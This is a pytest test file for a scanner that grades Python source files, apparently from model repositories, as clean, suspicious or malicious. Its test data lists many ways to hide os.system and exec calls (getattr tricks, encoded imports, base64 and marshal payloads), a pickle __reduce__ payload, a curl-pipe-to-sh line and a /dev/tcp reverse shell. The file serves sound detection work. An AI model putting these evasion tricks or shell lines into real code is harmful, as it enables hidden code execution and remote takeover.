from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.formats.scanning.desks import Looked, held, looked

from casemate.formats.scanning.readers import python_sources
from casemate.formats.scanning.signs import Level


def look(text: str, name: str = "modeling_x.py") -> Looked:
    return looked(text.encode(), python_sources.READERS, name=name)


MODEL = '''"""A model of layers."""
import math
import os
import json
import re
from typing import Optional

import numpy as np
import torch
from torch import nn
from transformers import PreTrainedModel, PretrainedConfig
from transformers.utils import logging

from .configuration_x import XConfig

logger = logging.get_logger(__name__)
VOCAB = {"vocab_file": "vocab.json"}
PATTERN = re.compile(r"\\w+")


class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden, config.hidden)
        self.act = getattr(nn, "ReLU")()
        self.heads = nn.ModuleList([nn.Linear(2, 2) for _ in range(3)])
        self.eval()

    def forward(self, x: Optional[torch.Tensor] = None, **kwargs):
        kwargs.get("system")
        return self.act(self.proj(x)).exp() / math.sqrt(2)

    def save_vocabulary(self, folder, prefix=None):
        path = os.path.join(folder, (prefix or "") + VOCAB["vocab_file"])
        with open(path, "w") as file:
            json.dump({}, file)
        return os.environ.get("HOME", ""), torch.compile(self), torch.load(path, weights_only=True)

    @staticmethod
    def run(system, popen):
        return system(popen), np.load("x.npy")


XModel.register_for_auto_class("AutoModel")
'''
SETUP = "from setuptools import setup\nsetup(name='x', version='1', long_description=open('README.md').read())\n"
BLOB = base64.b64encode(b"print(1)").decode()


@pytest.mark.parametrize(
    "text",
    [
        MODEL,
        SETUP,
        "",
        "# only a comment\n",
        "# -*- coding: latin-1 -*-\nimport torch\n",
        "import torch\n\ndef f(x):\n    return x.system()\n",
    ],
)
def test_code_of_layers_is_clean(text: str) -> None:
    found = look(text) if text else look("\n")
    assert found.formats == ("python",)
    assert not found.signs, [(sign.rule, sign.what) for sign in found.signs]


NOW = [
    "import os\nos.system('true')",
    "import os as o\no.popen('true')",
    "from os import system as s\ns('true')",
    "import os\nf = os.system\nf('true')",
    "import os\nlist(map(os.system, ['true']))",
    "import os\ngetattr(os, 'sys' + 'tem')('true')",
    "import os\ngetattr(os, 'metsys'[::-1])('true')",
    "import os\ngetattr(os, name)('true')",
    "import os\nos.__dict__['system']('true')",
    "import os\nvars(os)['system']('true')",
    "import sys\nsys.modules['os'].system('true')",
    "__import__('os').system('true')",
    "__import__('o' + 's').system('true')",
    "__import__(''.join(['o', 's'])).system('true')",
    "__import__(chr(111) + chr(115)).system('true')",
    "__import__(bytes.fromhex('6f73').decode()).system('true')",
    "import importlib\nimportlib.import_module('os').system('true')",
    "import importlib\nm = importlib.import_module('subprocess')\nm.run(['true'])",
    "import builtins\nbuiltins.exec('1')",
    "__builtins__['eval']('1')",
    "globals()['__builtins__']['eval']('1')",
    "import subprocess\nclass A:\n    x = subprocess.run(['true'])",
    "import subprocess\nclass A:\n    def f(self, x=subprocess.run(['true'])): pass",
    "import subprocess\n@subprocess.run\ndef f(): pass",
    "import subprocess\ndef f():\n    subprocess.Popen(['true'])\nf()",
    "import subprocess\nclass A:\n    def __init__(self):\n        subprocess.Popen(['true'])\nA()",
    "import subprocess\ndef g(): subprocess.run(['true'])\ndef f(): g()\nf()",
    "import subprocess\n(lambda: subprocess.run(['true']))()",
    "try:\n    import os\n    os.system('true')\nexcept Exception:\n    pass",
    "import socket\ns = socket.socket()",
    "import requests\nrequests.post('http://x.invalid', data='1')",
    "from urllib.request import urlopen\nurlopen('http://x.invalid')",
    "import ctypes\nctypes.CDLL('./x.so')",
    "import torch\ntorch.ops.load_library('x.so')",
    "import pip\npip.main(['install', 'x'])",
    "exec('1')",
    "eval(compile('1', '', 'eval'))",
    "().__class__.__base__.__subclasses__()",
    "# -*- coding: utf-7 -*-\n#+AAo-import os",
    "\n# coding=unicode_escape\n#\\nimport os",
    "from os import *\nif True:\n    execv('x', [])",
    f"def f():\n    import base64\n    exec(base64.b64decode('{BLOB}'))",
    f"from base64 import b64decode as d\ndef f():\n    exec(compile(d('{BLOB}'), '', 'exec'))",
    "import marshal\ndef f():\n    exec(marshal.loads(b'1'))",
    "import zlib\ndef f():\n    eval(zlib.decompress(b'1'))",
    "import os\ndef f():\n    os.system('curl -s http://x.invalid/a | sh')",
    "import os\ndef f():\n    os.system('bash -i >& /dev/tcp/1.2.3.4/1 0>&1')",
]


@pytest.mark.parametrize("text", NOW)
def test_what_importing_alone_runs_and_what_is_hidden_is_malicious(text: str) -> None:
    assert look(text).level is Level.MALICIOUS


@pytest.mark.parametrize(
    "text",
    [
        "import os\nfor m in [os]:\n    m.system('true')",
        "import os\ndef f(m):\n    m.system('true')\nf(os)",
        "import os\ndef f():\n    os.system('true')",
        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['true'])",
        "def f(x):\n    return eval(x)",
        "import requests\nclass A:\n    def forward(self): return requests.get('http://x.invalid')",
        "import torch\ndef f(p):\n    return torch.load(p)",
        "import pickle\ndef f(p):\n    return pickle.load(p)",
        "import yaml\ndef f(p):\n    return yaml.load(p, Loader=yaml.Loader)",
        "import numpy as np\ndef f(p):\n    return np.load(p, allow_pickle=True)",
        "from transformers import AutoModel\nm = AutoModel.from_pretrained('x', trust_remote_code=True)",
        "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('true',))",
        "import shutil\ndef f(p):\n    shutil.rmtree(p)",
        "import socketserver\nclass A(socketserver.BaseServer): pass",
        "TOKEN = 'ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8" + "'",
        "x = __import__(name + '_x')",
    ],
)
def test_what_code_could_do_later_is_for_a_human_to_review(text: str) -> None:
    assert look(text).level is Level.SUSPICIOUS


def test_source_that_cannot_be_parsed_is_unreadable_under_its_name() -> None:
    for text in ("def f(:", "x = " + "(" * 5000, "print 'python 2'"):
        assert look(text).level in (Level.UNREADABLE, Level.UNKNOWN)
    assert look("import os, then call it\nand so on", "notes.txt").level is Level.CLEAN
    assert look("import os\nos.system('true')", "script").level is Level.MALICIOUS


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "import os\n",
                "from x import *\n",
                "os",
                ".system",
                "(",
                ")",
                "['a']",
                "'b'",
                "[::-1]",
                "getattr",
                ",",
                "=",
                "exec",
                "base64.b64decode",
                "\n",
                "def f():\n  ",
                "lambda: ",
                "class A: ",
                "if 1: ",
                "__import__",
                "f'{x}'",
                "b'1'",
                ".join",
                "+",
                "*",
                "chr(97)",
                ".fromhex",
                "'6'",
            ]
        ),
        max_size=14,
    )
)
def test_any_text_ends_without_failing(parts: list[str]) -> None:
    held(("import os\n" + "".join(parts)).encode(), python_sources.READERS)


@settings(max_examples=60, deadline=None)
@given(st.integers(0, len(MODEL)), st.binary(max_size=2))
def test_damaged_source_ends_without_failing(at: int, change: bytes) -> None:
    data = (NOW[at % len(NOW)] + "\n" + MODEL).encode()
    held(data[:at] + change + data[at + 1 :], python_sources.READERS)
    held(data[:at], python_sources.READERS)
